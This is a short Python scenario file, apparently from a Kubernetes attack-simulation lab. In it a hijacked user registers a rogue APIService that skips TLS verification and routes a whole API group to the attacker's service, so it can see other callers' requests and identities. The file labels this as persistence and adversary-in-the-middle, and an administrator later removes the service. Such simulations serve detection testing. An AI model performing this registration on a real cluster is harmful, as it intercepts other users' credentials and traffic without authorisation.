"""An API service and a conversion webhook of the thief's own see the callers' identities."""

from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    service = {"name": "guard", "namespace": "security", "port": 443}
    spec = {
        "group": "insights.example.net",
        "version": "v1",
        "groupPriorityMinimum": 1000,
        "versionPriority": 10,
        "service": service,
        "insecureSkipTLSVerify": True,
    }
    name = "v1.insights.example.net"
    body = {"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": {"name": name}, "spec": spec}
    with stage.step("register the API", thief, "persistence", ("N05",)):
        stage.must(stage.create(thief, body))
    stage.pause()
    with stage.step("the administrator removes it", "kubernetes-admin", kind="confounder"):
        stage.admin().delete(f"/apis/apiregistration.k8s.io/v1/apiservices/{name}")


SCENARIO = Scenario(
    "api-extension",
    "An API service in the middle",
    "attack",
    "receive other people's requests",
    ("T1557",),
    _play,
)
